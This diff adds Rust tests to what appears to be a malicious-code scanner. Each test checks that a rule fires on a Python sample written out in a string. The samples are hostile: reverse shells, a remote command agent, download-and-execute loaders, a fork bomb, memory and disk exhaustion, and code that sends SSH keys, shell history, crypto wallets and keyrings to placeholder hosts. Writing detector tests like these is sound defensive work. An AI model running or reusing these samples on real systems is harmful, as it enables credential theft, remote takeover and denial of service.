@@ -1426,3 +1426,74 @@ fn code_kept_in_docstrings_and_text_made_by_the_programs_own_classes() {
         "import os, shutil, urllib.request\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/History'), '/tmp/h.sqlite')\nurllib.request.urlopen('https://c.example.net/u', open('/tmp/h.sqlite', 'rb').read())\n",
     );
 }
+
+#[test]
+fn objects_filled_by_the_functions_and_methods_they_are_given_to() {
+    // A dict handed to each step fills up: the socket made in one is the one the next wires.
+    fires(
+        "CRD101",
+        "import os, socket\ndef open_link(ctx):\n    ctx['link'] = socket.create_connection(('203.0.113.4', 4444))\ndef attach(ctx):\n    for fd in (0, 1, 2):\n        os.dup2(ctx['link'].fileno(), fd)\nctx = {}\nfor step in (open_link, attach):\n    step(ctx)\nos.execv('/bin/sh', ['sh', '-i'])\n",
+    );
+    // A callback list filled by `subscribe` is what `scan` calls: every key found is sent.
+    fires(
+        "CRD109",
+        "import os, socket\nclass Watcher:\n    def __init__(self):\n        self.listeners = []\n    def subscribe(self, fn):\n        self.listeners.append(fn)\n    def scan(self):\n        for name in os.listdir(os.path.expanduser('~/.ssh')):\n            for fn in self.listeners:\n                fn(os.path.join(os.path.expanduser('~/.ssh'), name))\ndef ship(path):\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open(path, 'rb').read(), ('198.51.100.9', 53))\nw = Watcher()\nw.subscribe(ship)\nw.scan()\n",
+    );
+    // A handler table kept in an attribute, filled by a decorator, dispatched with what
+    // the network sends.
+    fires(
+        "CRD102",
+        "import asyncio\nclass Agent:\n    def __init__(self):\n        self.routes = {}\n    def route(self, name):\n        def add(fn):\n            self.routes[name] = fn\n            return fn\n        return add\n    async def serve(self):\n        reader, writer = await asyncio.open_connection('203.0.113.8', 8443)\n        while True:\n            line = await reader.readline()\n            writer.write(await self.routes['run'](line.decode()))\nagent = Agent()\n@agent.route('run')\nasync def run(cmd):\n    proc = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE)\n    return (await proc.communicate())[0]\nasyncio.run(agent.serve())\n",
+    );
+    // Two children made by a comprehension over `range(2)`, each run as a thread that
+    // makes two more.
+    fires(
+        "CRD111",
+        "import threading\nclass Cell:\n    def __call__(self):\n        for c in [Cell() for _ in range(2)]:\n            threading.Thread(target=c).start()\nthreading.Thread(target=Cell()).start()\n",
+    );
+    // `store += block` runs `__iadd__`, which keeps every block of an endless generator.
+    fires(
+        "CRD112",
+        "import itertools\ndef blocks():\n    for n in itertools.count():\n        yield bytearray(32 * 1024 * 1024)\nclass Hoard:\n    def __init__(self):\n        self.kept = []\n    def __iadd__(self, block):\n        self.kept.append(block)\n        return self\nh = Hoard()\nfor b in blocks():\n    h += b\n",
+    );
+    // A library getter (`os.getpid`) in the loop waits for nothing: the disk still fills.
+    fires(
+        "CRD112",
+        "import logging, os\nlog = logging.getLogger('fill')\nn = 0\nwhile True:\n    with open('/tmp/fill.log', 'a') as fh:\n        fh.write('x' * 4096)\n    n += 1\n    if n % 100 == 0:\n        log.info('pass %d pid %d', n, os.getpid())\n",
+    );
+}
+
+#[test]
+fn downloads_run_by_a_shell_reading_stdin_or_imported_from_a_temporary_folder() {
+    // `bash -s -- ARGS` runs the commands it reads from stdin: here, a download.
+    fires(
+        "CRD102",
+        "import subprocess, urllib.request\ndef install(script):\n    subprocess.run(['bash', '-s', '--', '--prefix', '/opt/tool'], input=script, check=True)\ninstall(urllib.request.urlopen('https://get.example.net/install.sh').read())\n",
+    );
+    // A module saved into a fresh temporary folder, the folder put on `sys.path`, the
+    // module imported under a run-time name.
+    fires(
+        "CRD102",
+        "import importlib, os, sys, tempfile, urllib.request\nhome = tempfile.mkdtemp()\nname = 'plug_' + str(os.getpid())\nwith open(os.path.join(home, name + '.py'), 'wb') as fh:\n    fh.write(urllib.request.urlopen('https://cdn.example.net/p.py').read())\nsys.path.insert(0, home)\nimportlib.import_module(name)\n",
+    );
+    // An archive saved, put on `sys.path`, and a module named by an option's default imported.
+    fires(
+        "CRD102",
+        "import argparse, sys, requests\np = argparse.ArgumentParser()\np.add_argument('--entry', default='ext_main')\nargs = p.parse_args()\nopen('/tmp/ext.zip', 'wb').write(requests.get('https://cdn.example.net/ext.zip').content)\nsys.path.insert(0, '/tmp/ext.zip')\n__import__(args.entry).main()\n",
+    );
+    // `reduce(add, ...)` over characters computed at run time is still decoded text.
+    fires(
+        "CRD103",
+        "import functools, operator\nCODES = [112, 114, 105, 110, 116]\ndef text(codes):\n    return functools.reduce(operator.add, (chr(c ^ 0) for c in map(operator.pos, codes)), '')\neval(text(CODES))\n",
+    );
+    // `__import__(name, fromlist=[...])` is the submodule: its client posts the histories.
+    fires(
+        "CRD109",
+        "import os\nhc = __import__('http.client', fromlist=['HTTPSConnection'])\nbody = open(os.path.expanduser('~/.zsh_history'), 'rb').read()\nc = getattr(hc, 'HTTPS' + 'Connection')('paste.example.net')\nc.request('POST', '/p', body=body)\n",
+    );
+    // Wallets and keyrings found and sent out.
+    fires(
+        "CRD109",
+        "import os, requests\nfor root in ('~/.electrum/wallets', '~/.ethereum/keystore', '~/.local/share/keyrings'):\n    for top, _, files in os.walk(os.path.expanduser(root)):\n        for f in files:\n            requests.post('https://vault.example.net/u', files={'f': open(os.path.join(top, f), 'rb')})\n",
+    );
+}
